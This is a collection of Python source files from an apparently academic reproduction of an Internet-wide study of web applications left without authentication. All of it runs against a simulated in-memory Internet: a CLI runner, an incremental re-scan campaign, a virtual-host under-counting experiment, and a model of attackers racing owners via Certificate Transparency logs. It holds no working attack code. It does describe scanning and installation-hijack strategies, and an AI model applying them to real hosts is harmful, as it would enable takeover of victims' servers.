                             "threads share memory but are GIL-bound; "
                             "processes scan on real cores (output is "
                             "byte-identical either way)")
    parser.add_argument("--markdown", action="store_true",
                        help="render the full report as markdown")
    parser.add_argument("--out", type=str, default=None,
                        help="write the report to this file instead of stdout")
    parser.add_argument("--telemetry", choices=("jsonl", "prometheus", "funnel"),
                        default=None,
                        help="append the run's telemetry in this format "
                             "(scan / observe / honeypot experiments)")
    parser.add_argument("--telemetry-out", type=str, default=None,
                        help="write the telemetry dump to this file instead "
                             "of appending it to the report")
    observability = parser.add_argument_group(
        "profiling and the operations console",
        "diagnostic layers on top of the telemetry: none of them change "
        "the canonical report or telemetry export",
    )
    observability.add_argument(
        "--profile", action="store_true",
        help="arm span profiling (SimClock rollups plus per-shard wall "
             "attribution) for experiments that run the pipeline",
    )
    observability.add_argument(
        "--profile-out", type=str, default=None,
        help="write the deterministic SimClock profile rollup as JSON "
             "(implies --profile)",
    )
    observability.add_argument(
        "--flight-out", type=str, default=None,
        help="write the flight recorder's slowest-probe dump as JSON",
    )
    observability.add_argument(
        "--console-port", type=int, default=None,
        help="serve the live operations console on this loopback port "
             "for the duration of the run (0 = ephemeral)",
    )
    longevity = parser.add_argument_group(
        "incremental longevity campaign",
        "the interval-compressed re-scan campaign (--experiment "
        "longevity): one recorded baseline sweep, then incremental "
        "re-scans on the study's cadence with sampled byte-identity "
        "verification against from-scratch sweeps",
    )
    longevity.add_argument(
        "--frame-addresses", type=int, default=10_000_000,
        help="size of the interval-compressed scan frame (default 10M; "
             "the paper's full scale is 100M)",
    )
    longevity.add_argument(
        "--max-sweeps", type=int, default=None,
        help="cap the cadence ticks for smoke runs (default: the whole "
             "observation window)",
    )
    longevity.add_argument(
        "--rescan-from", type=str, default=None,
        help="resume an earlier campaign from this saved re-scan state: "
             "the baseline sweep is skipped and the first tick diffs "
             "against the loaded sweep",
    )
    longevity.add_argument(
        "--rescan-out", type=str, default=None,
        help="save the campaign's final re-scan state to this file so a "
             "later run can continue with --rescan-from",
    )
    supervision = parser.add_argument_group(
        "supervised runtime",
        "run the sweep under the supervised runtime (full / scan / observe "
        "experiments): deadlines, per-probe watchdogs, quarantine, and a "
        "coverage account of everything skipped",
    )
    supervision.add_argument(
        "--deadline", type=float, default=None,
        help="sweep-wide deadline in simulated seconds; the sweep stops "
             "probing when a shard's clock budget runs out and accounts "
             "the remainder as deadline-skipped",
    )
    supervision.add_argument(
        "--max-shard-restarts", type=int, default=None,
        help="restarts granted to a crashing shard before it is abandoned "
             "and its frame accounted unreachable (default 2)",
    )
    supervision.add_argument(
        "--quarantine-threshold", type=int, default=None,
        help="poison/stall strikes before a host is quarantined for the "
             "rest of the sweep (default 2)",
    )
    return parser


def _supervisor_config(args):
    """A SupervisorConfig when any supervision flag was given, else None."""
    if (args.deadline is None and args.max_shard_restarts is None
            and args.quarantine_threshold is None):
        return None
    from repro.core.supervisor import SupervisorConfig

    defaults = SupervisorConfig()
    return SupervisorConfig(
        sweep_deadline=args.deadline,
        max_shard_restarts=(
            args.max_shard_restarts
            if args.max_shard_restarts is not None
            else defaults.max_shard_restarts
        ),
        quarantine_threshold=(
            args.quarantine_threshold
            if args.quarantine_threshold is not None
            else defaults.quarantine_threshold
        ),
    )


def _run(
    experiment: str,
    config: StudyConfig,
    markdown: bool = False,
    workers: int | None = None,
    executor: str = "thread",
    supervisor=None,
    profile: bool = False,
    console=None,
    longevity_args=None,
):
    """Run one experiment; returns (report text, Telemetry or None)."""
    if experiment == "full":
        study = run_full_study(config, supervisor=supervisor)
        return study.render_markdown() if markdown else study.render(), None
    if experiment == "scan":
        study = run_scan_study(
            config, workers=workers, executor=executor,
            supervisor=supervisor, profile=profile, console=console,
        )
        sections = [study.table2().render(), study.table3().render(),
                    study.table4().render(), study.figure1().render()]
        if supervisor is not None:
            sections.append(study.report.coverage.render())
        return "\n\n".join(sections), study.telemetry
    if experiment == "observe":
        study = run_scan_study(
            config, workers=workers, executor=executor,
            supervisor=supervisor, profile=profile, console=console,
        )
        # The observer charges its sweep counters to the scan pipeline's
        # handle, so one dump covers both phases.
        observer = run_observer_study(study, telemetry=study.telemetry)
        return observer.figure2().render(), observer.telemetry
    if experiment == "honeypot":
        study = run_honeypot_study(config)
        return "\n\n".join(
            [study.table5().render(), study.table6().render(),
             study.figure3().render(), study.figure4().render(),
             study.table7().render(), study.table8().render()]
        ), study.telemetry
    if experiment == "defender":
        return run_defender_study().table().render(), None
    if experiment == "ct-race":
        from repro.experiments.ct_race import run_ct_race

        return run_ct_race().table().render(), None
    if experiment == "vhosts":
        from repro.experiments.vhosts import run_vhost_study

        return run_vhost_study().table().render(), None
    if experiment == "packet-loss":
        from repro.experiments.packet_loss import run_packet_loss_study

        return run_packet_loss_study().table().render(), None
    if experiment == "recall-recovery":
        from repro.experiments.packet_loss import run_recall_recovery_study

        return run_recall_recovery_study().table().render(), None
    if experiment == "longevity":
        from repro.core.rescan import load_rescan_state, save_rescan_state
        from repro.experiments.longevity import run_longevity_study

        options = longevity_args or {}
        resume = None
        if options.get("rescan_from"):
            resume = load_rescan_state(options["rescan_from"])
        study = run_longevity_study(
            config,
            frame_addresses=options.get("frame_addresses", 10_000_000),
            max_sweeps=options.get("max_sweeps"),
            resume_from=resume,
        )
        if options.get("rescan_out"):
            save_rescan_state(study.final_state, options["rescan_out"])
        return study.render(), None
    if experiment == "chaos-soak":
        from repro.experiments.chaos_soak import run_chaos_soak

        soak = run_chaos_soak(profile=profile, console=console)
        return soak.render(), soak.telemetry
    if experiment == "chaos-coverage":
        from repro.experiments.chaos_soak import run_chaos_coverage_study

        study = run_chaos_coverage_study()
        return study.table().render(), study.telemetry
    raise ValueError(f"unknown experiment {experiment!r}")


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    config = _SCALES[args.scale]()
    if args.seed is not None:
        config = config.with_seed(args.seed)
    profile = args.profile or args.profile_out is not None
    hub = server = None
    if args.console_port is not None:
        from repro.obs.console import ConsoleHub, ConsoleServer

        hub = ConsoleHub()
        server = ConsoleServer(hub, port=args.console_port).start()
        print(f"operations console at {server.url}", file=sys.stderr)
    try:
        report, telemetry = _run(
            args.experiment, config,
            markdown=args.markdown, workers=args.workers,
            executor=args.executor,
            supervisor=_supervisor_config(args),
            profile=profile, console=hub,
            longevity_args={
                "frame_addresses": args.frame_addresses,
                "max_sweeps": args.max_sweeps,
                "rescan_from": args.rescan_from,
                "rescan_out": args.rescan_out,
            },
        )
    finally:
        if server is not None:
            server.stop()
    if args.telemetry is not None:
        if telemetry is None:
            print(
                f"experiment {args.experiment!r} records no telemetry",
                file=sys.stderr,
            )
            return 2
        dump = telemetry.export(args.telemetry)
        if args.telemetry_out:
            with open(args.telemetry_out, "w") as handle:
                handle.write(dump)
            print(f"telemetry written to {args.telemetry_out}")
        else:
            report = report + "\n\n" + dump.rstrip("\n")
    if args.profile_out is not None or args.flight_out is not None:
        if telemetry is None:
            print(
                f"experiment {args.experiment!r} records no telemetry",
                file=sys.stderr,
            )
            return 2
        if args.profile_out is not None:
            from repro.obs.profile import ProfileRollup

            rollup = ProfileRollup.from_spans(telemetry.tracer.finished)
            with open(args.profile_out, "w") as handle:
                json.dump(rollup.to_dict(), handle, indent=2, sort_keys=True)
                handle.write("\n")
            print(f"profile rollup written to {args.profile_out}")
        if args.flight_out is not None:
            with open(args.flight_out, "w") as handle:
                json.dump(
                    telemetry.flight.to_dict(), handle,
                    indent=2, sort_keys=True,
                )
                handle.write("\n")
            print(f"flight record written to {args.flight_out}")
    if args.out:
        with open(args.out, "w") as handle:
            handle.write(report + "\n")
        print(f"report written to {args.out}")
    else:
        print(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
