"""The longevity re-scan campaign over an interval-compressed frame.

The paper's four-week observation re-scans the same address frame every
three hours.  Done naively that is a full three-stage sweep per cadence
tick — at 100M addresses, hundreds of full sweeps.  This experiment runs
the campaign the way a real longitudinal study must: one recorded
baseline sweep, then an *incremental* re-scan per tick that replays the
unchanged hosts from the prior sweep and deep-probes only the /24s that
churned.

Between ticks the lifecycle model plays out against the simulated hosts
(owners go offline, complete installations, flip authentication on,
update versions).  Port-level churn is self-detected by the engine's
stage-I diff; content-level churn (a fix or version update that leaves
the open ports alone) is hinted via ``churned_blocks``, exactly the
signal a real campaign gets from CT logs or passive DNS.

The campaign is honest by construction: on sampled ticks the incremental
report is compared byte-for-byte against a from-scratch sequential sweep
of the whole frame, and every tick's funnel must reconcile.  A mismatch
raises :class:`~repro.util.errors.VerificationError` — this is a CI
gate, not a logged warning.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field

from repro.apps.catalog import scanned_ports
from repro.apps.versions import RELEASE_DB
from repro.core.pipeline import ScanPipeline
from repro.core.rescan import RescanEngine, RescanState
from repro.core.serialize import report_to_dict
from repro.experiments.config import StudyConfig
from repro.net.intervals import BLOCK_MASK, CompressedPopulation, IntervalSet
from repro.net.lifecycle import Fate, FateKind, LifecycleModel
from repro.net.network import SimulatedInternet
from repro.net.population import generate_internet
from repro.net.transport import InMemoryTransport
from repro.obs.profile import wall_now
from repro.util.errors import VerificationError
from repro.util.tables import Table


@dataclass
class SweepCost:
    """What one sweep of the campaign actually cost."""

    index: int
    at_hours: float
    mode: str  # "baseline" | "incremental" | "oracle"
    churned_blocks: int
    syn_probes: int
    http_requests: int
    wall_seconds: float
    vulnerable: int
    verified: bool = False

    def to_dict(self) -> dict:
        return {
            "index": self.index,
            "at_hours": self.at_hours,
            "mode": self.mode,
            "churned_blocks": self.churned_blocks,
            "syn_probes": self.syn_probes,
            "http_requests": self.http_requests,
            "wall_seconds": self.wall_seconds,
            "vulnerable": self.vulnerable,
            "verified": self.verified,
        }


@dataclass
class _Deployment:
    """One vulnerable deployment under lifecycle churn."""

    ip_value: int
    slug: str
    fate: Fate
    exit_applied: bool = False
    update_applied: bool = False


@dataclass
class LongevityStudy:
    """Results of the interval-compressed longevity campaign."""

    config: StudyConfig
    frame: IntervalSet
    baseline_cost: SweepCost
    sweeps: list[SweepCost] = field(default_factory=list)
    final_state: RescanState | None = None
    verified_sweeps: int = 0

    @property
    def sweep_count(self) -> int:
        return len(self.sweeps)

    def incremental_totals(self) -> dict[str, float]:
        return {
            "syn_probes": sum(s.syn_probes for s in self.sweeps),
            "http_requests": sum(s.http_requests for s in self.sweeps),
            "wall_seconds": sum(s.wall_seconds for s in self.sweeps),
        }

    def full_projection(self) -> dict[str, float]:
        """What the campaign would have cost as from-scratch sweeps."""
        n = len(self.sweeps)
        return {
            "syn_probes": self.baseline_cost.syn_probes * n,
            "http_requests": self.baseline_cost.http_requests * n,
            "wall_seconds": self.baseline_cost.wall_seconds * n,
        }

    def savings_factor(self) -> float:
        """HTTP-traffic ratio of from-scratch vs incremental sweeps."""
        spent = self.incremental_totals()["http_requests"]
        projected = self.full_projection()["http_requests"]
        if spent <= 0:
            return float("inf") if projected > 0 else 1.0
        return projected / spent

    def decay_curve(self) -> list[tuple[float, int]]:
        """(hours, still-vulnerable hosts) per sweep, baseline included."""
        curve = [(self.baseline_cost.at_hours, self.baseline_cost.vulnerable)]
        curve.extend((s.at_hours, s.vulnerable) for s in self.sweeps)
        return curve

    def table(self) -> Table:
        table = Table(
            "Longevity campaign: incremental vs from-scratch cost",
            ["sweep", "t (h)", "mode", "churned /24s", "SYN probes",
             "HTTP requests", "wall (s)", "vulnerable", "verified"],
        )
        table.add_row(
            0, f"{self.baseline_cost.at_hours:.0f}", self.baseline_cost.mode,
            "-", self.baseline_cost.syn_probes,
            self.baseline_cost.http_requests,
            f"{self.baseline_cost.wall_seconds:.2f}",
            self.baseline_cost.vulnerable,
            "yes" if self.baseline_cost.verified else "",
        )
        for sweep in self.sweeps:
            table.add_row(
                sweep.index, f"{sweep.at_hours:.0f}", sweep.mode,
                sweep.churned_blocks, sweep.syn_probes, sweep.http_requests,
                f"{sweep.wall_seconds:.2f}", sweep.vulnerable,
                "yes" if sweep.verified else "",
            )
        return table

    def render(self) -> str:
        totals = self.incremental_totals()
        projected = self.full_projection()
        lines = [
            self.table().render(),
            "",
            f"frame: {len(self.frame):,} addresses in {len(self.frame.runs):,} runs",
            f"incremental campaign: {totals['http_requests']:,.0f} HTTP requests, "
            f"{totals['syn_probes']:,.0f} SYN probes, "
            f"{totals['wall_seconds']:.1f}s wall",
            f"from-scratch projection: {projected['http_requests']:,.0f} HTTP "
            f"requests, {projected['syn_probes']:,.0f} SYN probes, "
            f"{projected['wall_seconds']:.1f}s wall",
            f"HTTP savings factor: {self.savings_factor():.1f}x "
            f"({self.verified_sweeps} sweeps verified byte-identical "
            f"against from-scratch oracles)",
        ]
        return "\n".join(lines)


def _report_digest(report) -> str:
    return json.dumps(report_to_dict(report), sort_keys=True)


def _plan_deployments(
    internet: SimulatedInternet,
    state: RescanState,
    lifecycle: LifecycleModel,
    rng: random.Random,
) -> list[_Deployment]:
    """One lifecycle fate per vulnerable host found by the baseline."""
    deployments = []
    for finding in state.report.findings.values():
        for slug in finding.vulnerable_slugs:
            host = internet.host_at(finding.ip)
            app = host.app_instance(slug) if host else None
            if app is None:
                continue
            deployments.append(
                _Deployment(
                    ip_value=finding.ip.value,
                    slug=slug,
                    fate=lifecycle.fate_for(rng, slug, app.version),
                )
            )
            break  # one observed application per host, like the paper
    return deployments


def _apply_churn(
    internet: SimulatedInternet, deployments: list[_Deployment], now: float
) -> tuple[set[int], set[int]]:
    """Advance every deployment's fate to time ``now``.

    Returns ``(content_blocks, port_blocks)``: /24 bases whose hosts
    changed *content* (fix, version update — invisible to stage I, must
    be hinted) and bases whose hosts changed their *port picture*
    (offline — the engine self-detects these from the stage-I diff).
    """
    from repro.net.ipv4 import IPv4Address

    content_blocks: set[int] = set()
    port_blocks: set[int] = set()
    for record in deployments:
        host = internet.host_at(IPv4Address(record.ip_value))
        if host is None:
            continue
        fate = record.fate
        block = record.ip_value & BLOCK_MASK

        if (
            fate.update_time is not None
            and now >= fate.update_time
            and not record.update_applied
        ):
            record.update_applied = True
            if host.online:
                app = host.app_instance(record.slug)
                if app is not None:
                    next_release = RELEASE_DB.next_release_after(
                        record.slug,
                        RELEASE_DB.release_date(record.slug, app.version),
                    )
                    if next_release is not None:
                        app.version = next_release.version
                        content_blocks.add(block)

        if (
            fate.exit_time is not None
            and now >= fate.exit_time
            and not record.exit_applied
        ):
            record.exit_applied = True
            if fate.kind is FateKind.OFFLINE:
                host.take_offline()
                port_blocks.add(block)
            elif fate.kind is FateKind.FIXED and host.online:
                app = host.app_instance(record.slug)
                if app is not None and app.is_vulnerable():
                    try:
                        app.secure()
                        content_blocks.add(block)
                    except NotImplementedError:
                        host.take_offline()  # no auth knob to flip
                        port_blocks.add(block)
    return content_blocks, port_blocks


def run_longevity_study(
    config: StudyConfig | None = None,
    frame_addresses: int = 10_000_000,
    max_sweeps: int | None = None,
    verify_every: int = 8,
    batch_size: int = 16384,
    resume_from: RescanState | None = None,
) -> LongevityStudy:
    """Run the incremental longevity campaign.

    ``frame_addresses`` sizes the interval frame (the paper's full scale
    is 100M; CI runs 10M).  ``max_sweeps`` caps the cadence ticks for
    smoke runs; by default the cadence covers the whole observation
    window.  Every ``verify_every``-th sweep (and the last) is verified
    byte-for-byte against a from-scratch sequential sweep.
    ``resume_from`` continues a saved campaign: the baseline sweep is
    skipped and the first tick diffs against the loaded state.
    """
    config = config or StudyConfig.tiny()
    internet, _, _ = generate_internet(config.population)
    transport = InMemoryTransport(internet)
    if resume_from is not None:
        frame = resume_from.frame
    else:
        frame = CompressedPopulation.build(
            internet, frame_addresses, seed=config.seed
        ).frame
    engine = RescanEngine(
        transport,
        scanned_ports(),
        seed=config.seed,
        batch_size=batch_size,
        fingerprint=config.fingerprint,
    )

    def run_recorded(prior: RescanState | None, hints: set[int]) -> tuple[RescanState, SweepCost]:
        syn0 = transport.stats.syn_probes
        http0 = transport.stats.http_requests
        wall0 = wall_now()
        if prior is None:
            state = engine.baseline(frame)
        else:
            state = engine.rescan(frame, prior, churned_blocks=hints)
        cost = SweepCost(
            index=0,
            at_hours=0.0,
            mode="baseline" if prior is None else "incremental",
            churned_blocks=len(hints),
            syn_probes=transport.stats.syn_probes - syn0,
            http_requests=transport.stats.http_requests - http0,
            wall_seconds=wall_now() - wall0,
            vulnerable=len(state.report.vulnerable_ips()),
        )
        state.report.coverage.reconcile(state.report)
        return state, cost

    def verify(state: RescanState, label: str) -> SweepCost:
        """From-scratch oracle sweep; raises if the reports diverge.

        Also the campaign's measured "full sweep" cost: the projection
        column compares incremental sweeps against what an oracle sweep
        actually costs, not against the baseline's recording overhead.
        """
        syn0 = transport.stats.syn_probes
        http0 = transport.stats.http_requests
        wall0 = wall_now()
        oracle = ScanPipeline(
            transport,
            scanned_ports(),
            seed=config.seed,
            batch_size=batch_size,
            fingerprint=config.fingerprint,
        ).run(frame)
        cost = SweepCost(
            index=-1,
            at_hours=0.0,
            mode="oracle",
            churned_blocks=0,
            syn_probes=transport.stats.syn_probes - syn0,
            http_requests=transport.stats.http_requests - http0,
            wall_seconds=wall_now() - wall0,
            vulnerable=len(oracle.vulnerable_ips()),
        )
        if _report_digest(state.report) != _report_digest(oracle):
            raise VerificationError(
                f"{label}: incremental report diverged from the "
                f"from-scratch oracle sweep"
            )
        return cost

    revalidate: set[int] = set()
    if resume_from is not None:
        engine._check_prior(frame, resume_from)
        state = resume_from
        baseline_cost = SweepCost(
            index=0, at_hours=0.0, mode="resumed", churned_blocks=0,
            syn_probes=0, http_requests=0, wall_seconds=0.0,
            vulnerable=len(state.report.vulnerable_ips()),
        )
        # The world may have drifted arbitrarily while the campaign was
        # down, and content drift is invisible to the stage-I diff.  The
        # first resumed tick therefore re-validates every /24 the prior
        # sweep saw live; later ticks are hint-driven again.
        revalidate = {value & BLOCK_MASK for value in state.records}
    else:
        state, baseline_cost = run_recorded(None, set())
        oracle_cost = verify(state, "baseline")
        baseline_cost.verified = True
        # The projection uses the *oracle's* measured cost so incremental
        # sweeps are not compared against their own recording overhead.
        baseline_cost.syn_probes = oracle_cost.syn_probes
        baseline_cost.http_requests = oracle_cost.http_requests
        baseline_cost.wall_seconds = oracle_cost.wall_seconds

    study = LongevityStudy(
        config=config, frame=frame, baseline_cost=baseline_cost
    )

    lifecycle = LifecycleModel(window=config.observation_window)
    rng = random.Random(config.seed ^ 0xA11CE)
    deployments = _plan_deployments(internet, state, lifecycle, rng)

    interval = config.rescan_interval
    total_ticks = int(config.observation_window // interval)
    if max_sweeps is not None:
        total_ticks = min(total_ticks, max_sweeps)

    for tick in range(1, total_ticks + 1):
        now = tick * interval
        content_blocks, _port_blocks = _apply_churn(internet, deployments, now)
        # Only content churn needs a hint; port churn is self-detected.
        state, cost = run_recorded(state, content_blocks | revalidate)
        revalidate = set()
        cost.index = tick
        cost.at_hours = now / 3600.0
        if tick % verify_every == 0 or tick == total_ticks:
            oracle_cost = verify(state, f"sweep {tick}")
            cost.verified = True
            study.verified_sweeps += 1
            if study.baseline_cost.mode == "resumed":
                # A resumed campaign has no measured baseline; the first
                # oracle sweep stands in for the from-scratch cost.
                study.baseline_cost.syn_probes = oracle_cost.syn_probes
                study.baseline_cost.http_requests = oracle_cost.http_requests
                study.baseline_cost.wall_seconds = oracle_cost.wall_seconds
        study.sweeps.append(cost)

    study.final_state = state
    return study
