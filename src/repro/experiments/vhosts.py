"""Extension experiment: virtual-host under-counting (§6.2).

"We conducted our scan only on IP addresses and not domain names, thus,
e.g., missing applications running on shared hosting services that are
distinguished by the Host header.  Overall, our scanning results should
thus be seen as a lower bound."

This experiment quantifies that lower bound: it generates shared-hosting
servers where one IP fronts many name-based virtual hosts (a default
site plus hidden tenants, some mid-installation and hijackable), then
measures three observers:

* the **IP scan** — the paper's pipeline, no Host header: it only ever
  sees each IP's default site;
* the **domain-aware scan** — the same probes sent once per known domain
  (a zone-file / CT-derived list) with the Host header set;
* **ground truth** from the simulator.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import plugin_for
from repro.net.host import Host, HostKind, Service
from repro.net.http import HttpRequest, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet, allocate_addresses
from repro.net.tls import generate_domain
from repro.net.transport import InMemoryTransport
from repro.util.tables import Table


@dataclass(frozen=True)
class VhostStudyConfig:
    seed: int = 2606
    shared_hosts: int = 120
    #: tenants per shared-hosting IP (in addition to the default site)
    tenants_per_host: int = 8
    #: probability that any given site is a hijackable fresh install
    vulnerable_share: float = 0.04


@dataclass
class VhostStudyResult:
    config: VhostStudyConfig
    true_vulnerable_sites: int
    ip_scan_found: int
    domain_scan_found: int

    @property
    def undercount_factor(self) -> float:
        """How many real MAVs exist per MAV the IP scan reports."""
        if self.ip_scan_found == 0:
            return float("inf")
        return self.true_vulnerable_sites / self.ip_scan_found

    def table(self) -> Table:
        table = Table(
            "Extension: vhost under-counting — IP scan vs domain-aware scan",
            ("Observer", "Vulnerable sites found", "Recall"),
        )
        truth = self.true_vulnerable_sites or 1
        table.add_row("ground truth", self.true_vulnerable_sites, "100%")
        table.add_row(
            "ip-scan (paper)", self.ip_scan_found,
            f"{self.ip_scan_found / truth:.0%}",
        )
        table.add_row(
            "domain-aware scan", self.domain_scan_found,
            f"{self.domain_scan_found / truth:.0%}",
        )
        return table


class _HostAwareRequestShim:
    """Wraps a transport so plugin GETs carry a fixed Host header.

    The production plugins build plain GETs; for the domain-aware scan
    we inject the Host header at the transport boundary — exactly where
    a domain-based scanner would set it.
    """

    def __init__(self, transport: InMemoryTransport, host_header: str) -> None:
        self._transport = transport
        self._host_header = host_header

    def get(self, ip, port, path, scheme=Scheme.HTTP, follow_redirects=5):
        request = HttpRequest(
            "GET", path, headers={"host": self._host_header}, scheme=scheme
        )
        return self._transport.request(ip, port, scheme, request)

    def __getattr__(self, name):
        return getattr(self._transport, name)


def _build_population(config: VhostStudyConfig):
    rng = random.Random(config.seed)
    internet = SimulatedInternet()
    taken: set[int] = set()
    domains: list[tuple[str, IPv4Address]] = []
    truth = 0

    def make_site() -> AppInstance:
        nonlocal truth
        vulnerable = rng.random() < config.vulnerable_share
        if vulnerable:
            truth += 1
        app = create_instance("wordpress", vulnerable=vulnerable)
        return AppInstance(app, 80)

    for _ in range(config.shared_hosts):
        ip = allocate_addresses(rng, 1, taken)[0]
        host = Host(ip, HostKind.AWE)
        default_site = make_site()
        vhosts: dict[str, AppInstance] = {}
        for _tenant in range(config.tenants_per_host):
            domain = generate_domain(rng)
            vhosts[domain] = make_site()
            domains.append((domain, ip))
        host.add_service(Service(80, app=default_site, vhosts=vhosts))
        internet.add_host(host)
    return internet, domains, truth


def run_vhost_study(config: VhostStudyConfig | None = None) -> VhostStudyResult:
    config = config or VhostStudyConfig()
    internet, domains, truth = _build_population(config)
    transport = InMemoryTransport(internet)
    plugin = plugin_for("wordpress")

    # Observer 1: the paper's IP scan (no Host header -> default site).
    ip_found = 0
    for host in internet.hosts():
        context = PluginContext(transport, host.ip, 80, Scheme.HTTP)
        if plugin.detect(context) is not None:
            ip_found += 1

    # Observer 2: domain-aware scan over the known-domain list, plus the
    # default sites the IP scan already covers.
    domain_found = ip_found
    for domain, ip in domains:
        shim = _HostAwareRequestShim(transport, domain)
        context = PluginContext(shim, ip, 80, Scheme.HTTP)
        if plugin.detect(context) is not None:
            domain_found += 1

    return VhostStudyResult(
        config=config,
        true_vulnerable_sites=truth,
        ip_scan_found=ip_found,
        domain_scan_found=domain_found,
    )
