"""Shared experiment configuration.

One :class:`StudyConfig` parameterises every study so the full pipeline
can run at three natural sizes:

* ``tiny()`` — seconds; unit/integration tests;
* ``default()`` — tens of seconds; benchmarks and examples;
* ``paper()`` — all 4,221 vulnerable hosts at rate 1.0 and a denser
  background, matching the published population most closely.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from repro.net.population import PopulationModel
from repro.util.clock import HOUR, WEEK


@dataclass(frozen=True)
class StudyConfig:
    """Knobs shared by the four studies."""

    seed: int = 20210603
    population: PopulationModel = field(default_factory=PopulationModel)
    #: observation window of the longevity and honeypot studies
    observation_window: float = 4 * WEEK
    #: re-scan interval of the observer
    rescan_interval: float = 3 * HOUR
    #: fingerprint during the initial scan?
    fingerprint: bool = True
    attack_seed: int = 7

    @classmethod
    def tiny(cls) -> "StudyConfig":
        """Second-scale config for tests."""
        return cls(
            population=PopulationModel(
                awe_rate=0.002, vuln_rate=0.05, background_rate=2e-7
            ),
            rescan_interval=12 * HOUR,
        )

    @classmethod
    def default(cls) -> "StudyConfig":
        """Bench-scale config: all MAVs, sampled secure population."""
        return cls(
            population=PopulationModel(
                awe_rate=0.01, vuln_rate=1.0, background_rate=2e-6
            ),
        )

    @classmethod
    def paper(cls) -> "StudyConfig":
        """Closest to the published study (slower)."""
        return cls(
            population=PopulationModel(
                awe_rate=0.02, vuln_rate=1.0, background_rate=5e-6
            ),
        )

    def with_seed(self, seed: int) -> "StudyConfig":
        return replace(self, seed=seed, population=replace(self.population, seed=seed))
