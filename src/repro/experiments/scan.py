"""The Internet-wide scan study (paper §3).

Generates the calibrated Internet, runs the three-stage pipeline over it,
and exposes everything the analysis layer needs for Tables 2-4 and
Figure 1.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis import versions as version_analysis
from repro.analysis.figures import Figure1
from repro.analysis.tables import table2, table3, table4
from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline, ScanReport
from repro.experiments.config import StudyConfig
from repro.net.geo import GeoDatabase
from repro.net.network import SimulatedInternet
from repro.net.population import Census, generate_internet
from repro.net.transport import InMemoryTransport
from repro.obs.telemetry import Telemetry
from repro.util.tables import Table


@dataclass
class ScanStudy:
    """Everything §3 produced."""

    config: StudyConfig
    internet: SimulatedInternet
    geo: GeoDatabase
    census: Census
    transport: InMemoryTransport
    pipeline: ScanPipeline
    report: ScanReport

    @property
    def telemetry(self) -> Telemetry:
        """The pipeline's shared observability handle."""
        return self.pipeline.telemetry

    # -- analysis products ---------------------------------------------------

    def table2(self) -> Table:
        return table2(self.report, self.census, scanned_ports())

    def table3(self) -> Table:
        return table3(self.report, self.census)

    def table4(self) -> Table:
        return table4(self.report.vulnerable_ips(), self.geo)

    def figure1(self) -> Figure1:
        observations = version_analysis.to_versioned(self.report.observations())
        return Figure1.build(observations)

    def versioned_observations(self):
        return version_analysis.to_versioned(self.report.observations())

    def total_mavs(self) -> int:
        return len(self.report.vulnerable_ips())


def run_scan_study(
    config: StudyConfig | None = None,
    workers: int | None = None,
    executor: str = "thread",
    supervisor: object | None = None,
    profile: bool = False,
    console: object | None = None,
) -> ScanStudy:
    """Generate the Internet and sweep it with the full pipeline.

    ``workers`` dispatches the sweep to the sharded parallel engine; the
    report and telemetry are byte-identical for every worker count, so
    the analysis products do not depend on it.  ``executor`` picks the
    engine's backend ("thread" or "process" — byte-identical too; only
    "process" escapes the GIL).  ``supervisor`` (a
    :class:`~repro.core.supervisor.SupervisorConfig`) runs the sweep
    under the supervised runtime — deadlines, quarantine, and coverage
    accounting — which also implies the sharded engine.  ``profile``
    arms span profiling (wall attribution in ``pipeline.wall_profile``;
    canonical output unchanged), and ``console`` attaches a
    :class:`~repro.obs.console.ConsoleHub` for live observation.
    """
    config = config or StudyConfig.default()
    internet, geo, census = generate_internet(config.population)
    transport = InMemoryTransport(internet)
    pipeline = ScanPipeline(
        transport,
        scanned_ports(),
        seed=config.seed,
        fingerprint=config.fingerprint,
        workers=workers,
        executor=executor,
        supervisor=supervisor,
        profile=profile,
        console=console,
    )
    report = pipeline.run(internet.populated_addresses())
    return ScanStudy(
        config=config,
        internet=internet,
        geo=geo,
        census=census,
        transport=transport,
        pipeline=pipeline,
        report=report,
    )
