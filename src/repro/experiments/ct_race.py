"""Extension experiment: CT-log monitoring vs IPv4 sweeping (§6.2).

The paper observes that its IP-based scan *under-counts* short-lived
installation-hijack windows, and that attackers could do better than
full sweeps by watching Certificate Transparency logs for fresh
deployments.  This experiment quantifies that race:

* a stream of fresh WordPress deployments appears over the window; each
  obtains a CA-issued certificate (published to CT) the moment it comes
  online, and its owner finishes the installation after an exponential
  delay — closing the hijack window;
* a **sweep attacker** rescans the full IPv4 space on a fixed period
  (the paper's fastest observed attackers need hours per pass), so each
  deployment is first probed at a uniformly-random phase of the sweep;
* a **CT attacker** polls the log every few minutes and probes each new
  domain immediately.

Both attackers *verify* with the real WordPress detection plugin before
"compromising" anything — the probe path is the production pipeline's.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from statistics import median

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import plugin_for
from repro.net.ct import CertificateTransparencyLog
from repro.net.host import Host, HostKind, Service
from repro.net.http import Scheme
from repro.net.network import SimulatedInternet, allocate_addresses
from repro.net.tls import issue_certificate
from repro.net.transport import InMemoryTransport
from repro.util.clock import DAY, HOUR, MINUTE
from repro.util.tables import Table


@dataclass(frozen=True)
class CtRaceConfig:
    seed: int = 404
    window: float = 7 * DAY
    #: fresh deployments appearing during the window
    deployments: int = 400
    #: mean time until the owner completes the installation
    completion_mean: float = 6 * HOUR
    #: full-IPv4 sweep duration of the sweeping attacker
    sweep_period: float = 24 * HOUR
    #: CT monitor poll interval
    ct_poll: float = 5 * MINUTE


@dataclass(frozen=True)
class _Deployment:
    ip_value: int
    appears_at: float
    completes_at: float
    domain: str


@dataclass
class StrategyOutcome:
    name: str
    hijacked: int = 0
    missed: int = 0
    discovery_delays: list[float] = field(default_factory=list)

    @property
    def hijack_rate(self) -> float:
        total = self.hijacked + self.missed
